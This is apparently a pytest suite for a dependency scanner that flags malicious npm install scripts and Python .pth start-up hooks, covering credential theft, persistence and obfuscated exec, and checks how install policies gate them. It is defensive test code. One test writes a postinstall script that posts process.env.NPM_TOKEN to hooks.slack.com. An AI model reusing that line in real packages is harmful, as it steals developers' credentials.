"""``scan_deps`` on the project fixtures: what runs at install, how it is judged, what is not flagged."""

from __future__ import annotations

import json
from pathlib import Path

from depsdata import LOCKFILES, PROJECTS

from shipwarden.core.findings import Tier
from shipwarden.deps.model import HookKind
from shipwarden.deps.policy import Decision
from shipwarden.deps.scan import DepsResult, scan_deps


def findings_of(result: DepsResult, package: str) -> dict[str, str]:
    out: dict[str, str] = {}
    for f in result.report.findings:
        if f.properties.get("package") == package:
            out[f.rule_id] = f.tier.value
    return out


def hook(result: DepsResult, package: str, event: str):
    return next(r for r in result.hooks if r.hook.package == package and r.hook.event == event)


def test_npm_project_postinstall_stealer_is_p0() -> None:
    result = scan_deps(PROJECTS / "npm-app")
    assert findings_of(result, "crypto-helper-fixture") == {"deps-credential-theft": "P0"}
    finding = next(f for f in result.report.findings if f.rule_id == "deps-credential-theft"
                   and f.properties["package"] == "crypto-helper-fixture")
    paths = {loc.path for loc in finding.locations}
    assert "node_modules/crypto-helper-fixture/package.json" in paths
    assert "node_modules/crypto-helper-fixture/setup.js" in paths
    assert finding.primary.line == 7  # the postinstall line of the manifest
    assert {"env-sweep", "network-send"} <= set(finding.properties["evidence_capabilities"])


def test_git_optional_dependency_with_prepare_like_tanstack() -> None:
    result = scan_deps(PROJECTS / "npm-app")
    record = hook(result, "@tanstack/setup", "prepare")
    assert record.hook.optional and record.hook.source.kind.value == "git"
    got = findings_of(result, "@tanstack/setup")
    assert got["deps-credential-theft"] == "P0"
    assert got["deps-runner-memory"] == "P0"
    assert got["deps-persistence"] == "P0"
    assert got["deps-self-propagation"] == "P0"
    assert got["deps-non-registry-source"] == "P1"
    source = next(f for f in result.report.findings if f.rule_id == "deps-non-registry-source")
    assert "optional" in source.message and "@tanstack scope" in source.message


def test_prepare_only_counts_for_non_registry_sources(npm_app: Path) -> None:
    manifest = npm_app / "node_modules/lodash/package.json"
    data = json.loads(manifest.read_text())
    data["scripts"]["prepare"] = "node build.js"
    manifest.write_text(json.dumps(data))
    result = scan_deps(npm_app)
    assert not [r for r in result.hooks if r.hook.package == "lodash"]


def test_native_builds_are_inventoried_low_tier() -> None:
    result = scan_deps(PROJECTS / "npm-app")
    for package in ("esbuild", "native-addon", "sharp-like"):
        assert findings_of(result, package) == {"deps-install-script": "P2"}, package
    gyp = hook(result, "native-addon", "binding.gyp")
    assert gyp.hook.kind is HookKind.NATIVE_BUILD and gyp.hook.command == "node-gyp rebuild"
    assert "native-build" in gyp.analysis.capabilities
    esbuild = hook(result, "esbuild", "postinstall")
    assert "node_modules/esbuild/install.js" in esbuild.hook.file_hashes


def test_lockfile_flag_without_installed_manifest() -> None:
    result = scan_deps(PROJECTS / "npm-app")
    record = hook(result, "not-installed-hook", "install script")
    assert record.hook.kind is HookKind.LOCKFILE_FLAG
    assert record.hook.location.path == "package-lock.json"
    assert "--fetch" in record.findings[0].message


def test_npm_without_allow_scripts_is_not_gated() -> None:
    result = scan_deps(PROJECTS / "npm-app")
    gating = [f for f in result.report.findings if f.rule_id == "deps-scripts-not-gated"]
    assert len(gating) == 1 and gating[0].tier is Tier.P2
    assert all(r.decision is Decision.RUNS for r in result.hooks)


def test_ignore_scripts_blocks_but_keeps_the_verdict(npm_app: Path) -> None:
    (npm_app / ".npmrc").write_text("ignore-scripts=true\n")
    result = scan_deps(npm_app)
    assert all(r.decision is Decision.BLOCKED for r in result.hooks)
    assert not [f for f in result.report.findings if f.rule_id == "deps-scripts-not-gated"]
    assert findings_of(result, "crypto-helper-fixture") == {"deps-credential-theft": "P0"}
    assert "ignore-scripts" in hook(result, "esbuild", "postinstall").hook.policy_reason


def test_python_env_pth_files() -> None:
    result = scan_deps(PROJECTS / "py-env")
    litellm = hook(result, "litellm", "litellm_init.pth")
    assert litellm.hook.kind is HookKind.PTH
    rules = findings_of(result, "litellm")
    assert rules["deps-obfuscated-exec"] == "P0"
    assert rules["deps-credential-theft"] == "P0"
    assert rules["deps-persistence"] == "P0"
    # setuptools' distutils-precedence.pth: inventoried, known, never flagged as malicious
    assert findings_of(result, "setuptools") == {"deps-install-script": "P2"}
    assert hook(result, "setuptools", "distutils-precedence.pth").hook.known.startswith("setuptools")
    # a plain path entry runs nothing: no hook at all
    assert not [r for r in result.hooks if r.hook.event == "extra-paths.pth"]
    # a .pth that only imports a start-up module: the module is followed and judged
    boot = findings_of(result, "telemetry-boot")
    assert boot["deps-credential-theft"] == "P0"
    assert any(p.endswith("telemetry_boot_hook.py") for p in hook(result, "telemetry-boot", "telemetry_boot.pth").hook.file_hashes)


def test_unknown_import_only_pth_is_p1(py_env: Path) -> None:
    site = py_env / "env/lib/python3.11/site-packages"
    (site / "speedups.pth").write_text("import speedups_boot\n")
    (site / "speedups_boot.py").write_text("import sys\nsys.setswitchinterval(0.001)\n")
    result = scan_deps(py_env)
    finding = next(f for f in result.report.findings if f.properties.get("hook") == "speedups.pth")
    assert finding.rule_id == "deps-pth-startup-code" and finding.tier is Tier.P1
    assert "no installed distribution" in finding.message


def test_python_lockfile_source_builds() -> None:
    result = scan_deps(LOCKFILES / "uv")
    builds = {r.hook.package for r in result.hooks if r.hook.kind is HookKind.PYTHON_BUILD}
    assert builds == {"sdist-only", "vcs-pkg"}
    result = scan_deps(LOCKFILES / "pip")
    local = hook(result, "localpkg", "build")
    assert local.hook.package_dir == "pip/vendored/localpkg" or local.hook.package_dir.endswith("vendored/localpkg")
    assert any(p.endswith("setup.py") for p in local.hook.file_hashes)
    assert findings_of(result, "localpkg") == {"deps-install-script": "P2"}


def test_every_lockfile_fixture_scans_without_errors() -> None:
    result = scan_deps(LOCKFILES)
    assert result.report.errors == []
    assert result.report.stats["lockfiles"] == 17  # the two yarn Plug'n'Play loaders stand alone
    formats = {lock.format for lock in result.lockfiles}
    assert formats == {"package-lock", "npm-shrinkwrap", "pnpm-lock", "yarn-v1", "yarn-berry", "bun-lock",
                       "requirements", "poetry-lock", "uv-lock", "pylock", "yarn-pnp"}


def test_unreadable_inputs_become_scan_errors(tmp_path: Path) -> None:
    (tmp_path / "package-lock.json").write_text("{ not json")
    (tmp_path / "bun.lockb").write_bytes(b"\x00binary")
    nm = tmp_path / "node_modules" / "broken"
    nm.mkdir(parents=True)
    (nm / "package.json").write_text("[1, 2")
    result = scan_deps(tmp_path)
    kinds = sorted(e.kind for e in result.report.errors)
    assert kinds == ["json", "manifest", "unsupported"]


def test_pnpm_store_layout_and_default_blocking(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text('{"name": "app", "dependencies": {"esbuild": "0.25.0"}}')
    (tmp_path / "pnpm-lock.yaml").write_text((LOCKFILES / "pnpm-v9/pnpm-lock.yaml").read_text())
    real = tmp_path / "node_modules/.pnpm/esbuild@0.25.0/node_modules/esbuild"
    real.mkdir(parents=True)
    (real / "package.json").write_text('{"name": "esbuild", "version": "0.25.0", "scripts": {"postinstall": "node install.js"}}')
    (real / "install.js").write_text("console.log('ok')\n")
    (tmp_path / "node_modules/esbuild").symlink_to(real)
    result = scan_deps(tmp_path)
    records = [r for r in result.hooks if r.hook.package == "esbuild"]
    assert len(records) == 1
    assert records[0].decision is Decision.DEFAULT_BLOCKED
    (tmp_path / "pnpm-workspace.yaml").write_text("allowBuilds:\n  esbuild: true\n")
    result = scan_deps(tmp_path)
    assert next(r for r in result.hooks if r.hook.package == "esbuild").decision is Decision.ALLOWED


def test_scan_of_a_bare_node_modules_or_site_packages() -> None:
    nm = scan_deps(PROJECTS / "npm-app/node_modules")
    assert {r.hook.package for r in nm.hooks} >= {"esbuild", "crypto-helper-fixture"}
    site = scan_deps(PROJECTS / "py-env/env/lib/python3.11/site-packages")
    assert {r.hook.event for r in site.hooks} >= {"litellm_init.pth", "distutils-precedence.pth"}


def test_findings_never_carry_secret_values(tmp_path: Path) -> None:
    from shipwarden.secrets.fakes import fake_token

    token = fake_token("npm-token", 7)
    pkg = tmp_path / "node_modules/leaky"
    pkg.mkdir(parents=True)
    (pkg / "package.json").write_text('{"name": "leaky", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}')
    (pkg / "x.js").write_text(f'const t = "{token}"; require("https").request({{hostname: "hooks.slack.com", method: "POST"}}).end(process.env.NPM_TOKEN + t)\n')
    result = scan_deps(tmp_path)
    dumped = json.dumps([f.to_dict() for f in result.report.findings])
    assert token not in dumped


def test_hidden_lockfile_gives_sources_when_no_lockfile(npm_app: Path) -> None:
    lock = (npm_app / "package-lock.json").read_text()
    (npm_app / "package-lock.json").unlink()
    (npm_app / "node_modules/.package-lock.json").write_text(lock)
    result = scan_deps(npm_app)
    record = hook(result, "@tanstack/setup", "prepare")  # prepare counts: the hidden lockfile says git
    assert record.hook.source.kind.value == "git" and record.hook.optional
    source = next(f for f in result.report.findings if f.rule_id == "deps-non-registry-source")
    assert source.primary.path == "node_modules/.package-lock.json"
